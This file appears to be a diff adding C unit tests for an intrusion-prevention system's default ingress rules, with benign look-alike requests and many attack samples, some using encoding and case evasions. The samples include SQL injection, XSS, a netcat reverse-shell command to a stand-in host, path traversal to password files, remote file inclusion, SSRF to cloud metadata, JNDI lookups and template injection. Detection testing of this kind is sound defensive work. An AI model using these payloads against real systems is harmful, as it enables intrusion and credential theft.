@@ -1,0 +1,263 @@
+/* test_rules_default_ingress.c - ingress rules of rules/default.rules: per category true
+ * positives (with encoding, case, comment and whitespace evasions) that must raise an exact
+ * sid, and benign look-alikes that must raise nothing. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "common/util.h"
+#include "rdef_harness.h"
+
+struct fixture {
+    struct ips_ruleset *rs;
+    struct ips_scratch *s;
+};
+
+static int setup(void **state)
+{
+    struct fixture *f = xcalloc(1, sizeof(*f));
+    char *err = NULL;
+    struct ips_vars *v = ips_vars_new();
+    ips_vars_set(v, "HOME_NET", "[198.18.0.0/15]");
+    f->rs = ips_ruleset_load_file(RDEF_RULES, v, &err);
+    ips_vars_free(v);
+    if (!f->rs) {
+        fprintf(stderr, "%s", err ? err : "load failed\n");
+        free(err);
+        free(f);
+        return -1;
+    }
+    f->s = ips_scratch_new();
+    *state = f;
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    struct fixture *f = *state;
+    ips_scratch_free(f->s);
+    ips_ruleset_free(f->rs);
+    free(f);
+    return 0;
+}
+
+static void scan(struct fixture *f, const char *msg, struct rdef_result *r)
+{
+    rdef_scan(f->rs, f->s, (const uint8_t *)msg, strlen(msg), r);
+    assert_int_equal(r->status, 0);
+}
+
+static void get(struct fixture *f, const char *target, const char *extra, char *out, size_t n)
+{
+    assert_true(hs_snprintf(out, n, "GET %s HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: "
+                            "Mozilla/5.0 (X11; Linux x86_64)\r\n%s\r\n", target, extra));
+    (void)f;
+}
+
+static void post(const char *ctype, const char *body, char *out, size_t n)
+{
+    assert_true(hs_snprintf(out, n, "POST /submit HTTP/1.1\r\nHost: shop.example.com\r\n"
+                            "User-Agent: Mozilla/5.0\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s",
+                            ctype, strlen(body), body));
+}
+
+struct tp {
+    const char *target;   /* GET target, or NULL for a POST */
+    const char *extra;    /* extra header lines ("Name: v\r\n") or the POST body */
+    const char *ctype;    /* POST content type */
+    uint32_t sid;
+};
+
+static void check_tp(void **state, const struct tp *cases, size_t n)
+{
+    struct fixture *f = *state;
+    char msg[4096];
+    for (size_t i = 0; i < n; i++) {
+        const struct tp *c = &cases[i];
+        if (c->target)
+            get(f, c->target, c->extra ? c->extra : "", msg, sizeof(msg));
+        else
+            post(c->ctype, c->extra, msg, sizeof(msg));
+        struct rdef_result r;
+        scan(f, msg, &r);
+        if (!rdef_has(&r, c->sid))
+            fail_msg("case %zu: sid %u not raised (%zu alerts) for %s", i, c->sid, r.n,
+                     c->target ? c->target : c->extra);
+    }
+}
+
+#define FORM "application/x-www-form-urlencoded"
+#define JSON "application/json"
+
+static void test_sqli(void **state)
+{
+    static const struct tp c[] = {
+        {"/p?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", NULL, NULL, 2100000},
+        {"/p?id=1%20UnIoN/**/aLl/**/SeLeCt%20NULL,NULL", NULL, NULL, 2100000},  /* comments, case */
+        {"/p?id=1%20UN%2f%2a%2a%2fION%20SELECT%201", NULL, NULL, 2100018},      /* UN, empty comment, ION */
+        {"/p?id=1%09union%0aselect%0d1", NULL, NULL, 2100000},                   /* whitespace */
+        {"/p?id=1%2527%20OR%201=1--%20-", NULL, NULL, 2100003},                  /* double encoding */
+        {"/p?name=x'%20AND%20'abc'='abc", NULL, NULL, 2100003},
+        {"/p?id=1%20AND%20SLEEP(5)", NULL, NULL, 2100006},
+        {"/p?id=1;%20DROP%20TABLE%20users--", NULL, NULL, 2100012},
+        {"/p?u=admin'--%20", NULL, NULL, 2100009},
+        {"/p?id=1%20AND%20(SELECT%201%20FROM%20information_schema.tables)", NULL, NULL, 2100015},
+        {NULL, "user=1%27+union+select+password+from+users--+-", FORM, 2100001},  /* body, '+' spaces */
+        {NULL, "{\"id\": \"1 AND 4242=4242\"}", JSON, 2100004},
+        {"/p", "Cookie: sid=1%27%20or%20%271%27%3D%271\r\n", NULL, 2100005},     /* cookie */
+        {"/p?id=1%20AND%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END", NULL, NULL, 2100021},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_xss(void **state)
+{
+    static const struct tp c[] = {
+        {"/s?q=%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, 2100103},
+        {"/s?q=%3CsCrIpT%20src=//x.test/a.js%3E", NULL, NULL, 2100103},
+        {"/s?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", NULL, NULL, 2100100},
+        {"/s?q=%253Csvg%2Fonload%3Dprompt(1)%253E", NULL, NULL, 2100106},        /* double-encoded */
+        {"/s?u=javascript:alert(1)", NULL, NULL, 2100106},
+        {NULL, "c=%3Cbody+onload%3Dalert%281%29%3E", FORM, 2100101},
+        {NULL, "{\"c\": \"<iframe src=javascript:alert(1)>\"}", JSON, 2100104},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_cmdi(void **state)
+{
+    static const struct tp c[] = {
+        {"/ping?host=127.0.0.1;id", NULL, NULL, 2100200},
+        {"/ping?host=127.0.0.1%7C%20cat%20/etc/passwd", NULL, NULL, 2100200},
+        {"/ping?host=127.0.0.1%0awhoami", NULL, NULL, 2100200},
+        {"/ping?host=$(id)", NULL, NULL, 2100203},
+        {"/ping?host=x%60uname%20-a%60", NULL, NULL, 2100203},
+        {"/ping?host=a;cat${IFS}/etc/passwd", NULL, NULL, 2100203},
+        {NULL, "host=1%3Bnc+-e+%2Fbin%2Fsh+203.0.113.5+4444", FORM, 2100201},
+        {"/x?code=system('id')", NULL, NULL, 2100206},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_traversal(void **state)
+{
+    static const struct tp c[] = {
+        {"/view?file=../../../../etc/passwd", NULL, NULL, 2100303},
+        {"/view?file=..%252f..%252f..%252fetc%252fpasswd", NULL, NULL, 2100303}, /* double */
+        {"/view?file=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", NULL, NULL, 2100303},  /* overlong */
+        {"/static/../../../etc/shadow", NULL, NULL, 2100306},                      /* path */
+        {"/static/..%2f..%2f..%2f..%2fwindows/win.ini", NULL, NULL, 2100304},
+        {"/index.php?page=php://filter/convert.base64-encode/resource=index", NULL, NULL, 2100309},
+        {"/index.php?page=../config.php%00", NULL, NULL, 2100309},
+        {NULL, "file=..%5C..%5C..%5Cwindows%5Cwin.ini", FORM, 2100301},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_rfi_ssrf(void **state)
+{
+    static const struct tp c[] = {
+        {"/index.php?page=http://evil.example.net/shell.txt?", NULL, NULL, 2100400},
+        {"/index.php?page=http://203.0.113.7/c99", NULL, NULL, 2100400},
+        {"/fetch?url=http://169.254.169.254/latest/meta-data/", NULL, NULL, 2100500},
+        {"/fetch?url=http://127.0.0.1:6379/", NULL, NULL, 2100500},
+        {"/fetch?url=http://0x7f000001/", NULL, NULL, 2100500},
+        {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/", NULL, NULL, 2100506},
+        {"/fetch?url=gopher://127.0.0.1:6379/_INFO", NULL, NULL, 2100503},
+        {NULL, "{\"webhook\": \"http://[::1]:8080/admin\"}", JSON, 2100501},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_ssti_jndi(void **state)
+{
+    static const struct tp c[] = {
+        {"/x", "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}\r\n", NULL, 2100602},
+        {"/x?q=${${lower:j}ndi:${lower:l}dap://x.test/a}", NULL, NULL, 2100600},
+        {"/x?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", NULL, NULL, 2100600},
+        {"/x?name={{7*7}}", NULL, NULL, 2100603},
+        {"/x?name={{''.__class__.__mro__[1].__subclasses__()}}", NULL, NULL, 2100606},
+        {"/x?q=${T(java.lang.Runtime).getRuntime().exec('id')}", NULL, NULL, 2100606},
+        {NULL, "tpl=%3C%25%3D+7*7+%25%3E", FORM, 2100604},
+    };
+    check_tp(state, c, HS_ARRAY_SIZE(c));
+}
+
+static void test_scanner(void **state)
+{
+    struct fixture *f = *state;
+    static const char *uas[] = {"sqlmap/1.7.2#stable (https://sqlmap.org)",
+                                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Wfuzz/3.1.0"};
+    char msg[1024];
+    for (size_t i = 0; i < HS_ARRAY_SIZE(uas); i++) {
+        assert_true(hs_snprintf(msg, sizeof(msg), "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\n\r\n", uas[i]));
+        struct rdef_result r;
+        scan(f, msg, &r);
+        assert_true(rdef_has(&r, 2100700));
+    }
+}
+
+/* Benign look-alikes: none may alert. */
+static void test_benign_lookalikes(void **state)
+{
+    struct fixture *f = *state;
+    static const struct tp c[] = {
+        {"/search?q=O%27Brien", NULL, NULL, 0},                                   /* apostrophe */
+        {"/search?name=Sin%C3%A9ad+O%27Connor&city=Cork", NULL, NULL, 0},
+        {"/search?q=how+to+select+a+good+laptop+from+the+union+catalog", NULL, NULL, 0},
+        {"/search?q=drop+table+tennis+lessons", NULL, NULL, 0},
+        {"/search?q=it%27s+5+o%27clock+and+time+to+order+by+phone", NULL, NULL, 0},
+        {"/static/css/../img/logo.png", NULL, NULL, 0},                            /* .. inside */
+        {"/docs/guide/../faq.html?lang=en", NULL, NULL, 0},
+        {"/share?url=https%3A%2F%2Fwww.wikipedia.org%2Fwiki%2FHTTP", NULL, NULL, 0},
+        {"/search?q=rock+%26+roll&sort=-rating", NULL, NULL, 0},
+        {NULL, "name=Anne-Marie+D%27Arcy&comment=Great+product%2C+%3Cb%3Ehighly%3C%2Fb%3E+recommended%21", FORM, 0},
+        {NULL, "comment=I+%3Ci%3Elove%3C%2Fi%3E+it.+Use+the+%27select%27+button", FORM, 0},
+        {NULL, "{\"title\": \"Select committee report\", \"tags\": [\"union\", \"select\", \"or\"], "
+               "\"author\": \"O'Neil\", \"body\": \"<b>bold</b> and <i>it</i>\"}", JSON, 0},
+        {NULL, "q=Javascript%3A+the+good+parts+%28book%29&cat=books&id=3", FORM, 0},
+        {"/p", "Cookie: session=YWJjZGVmZ2hpams; theme=dark\r\nReferer: https://www.example.org/search?q=shoes\r\n", NULL, 0},
+    };
+    char msg[4096];
+    for (size_t i = 0; i < HS_ARRAY_SIZE(c); i++) {
+        if (c[i].target)
+            get(f, c[i].target, c[i].extra ? c[i].extra : "", msg, sizeof(msg));
+        else
+            post(c[i].ctype, c[i].extra, msg, sizeof(msg));
+        struct rdef_result r;
+        scan(f, msg, &r);
+        if (r.n != 0)
+            fail_msg("benign case %zu raised sid %u: %s", i, r.sids[0], c[i].target ? c[i].target : c[i].extra);
+    }
+}
+
+/* Every rule has a category, a drop action and a unique sid in the project's range. */
+static void test_rule_set_shape(void **state)
+{
+    struct fixture *f = *state;
+    size_t n = ips_ruleset_count(f->rs);
+    assert_true(n >= 40);
+    for (size_t i = 0; i < n; i++) {
+        const struct ips_rule *r = ips_ruleset_rule(f->rs, i);
+        assert_int_equal(ips_rule_action(r), IPS_ACT_DROP);
+        assert_in_range(ips_rule_sid(r), 2100000, 2100999);
+        assert_int_equal(ips_rule_metadata_count(r), 1);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_sqli),     cmocka_unit_test(test_xss),
+        cmocka_unit_test(test_cmdi),     cmocka_unit_test(test_traversal),
+        cmocka_unit_test(test_rfi_ssrf), cmocka_unit_test(test_ssti_jndi),
+        cmocka_unit_test(test_scanner),  cmocka_unit_test(test_benign_lookalikes),
+        cmocka_unit_test(test_rule_set_shape),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
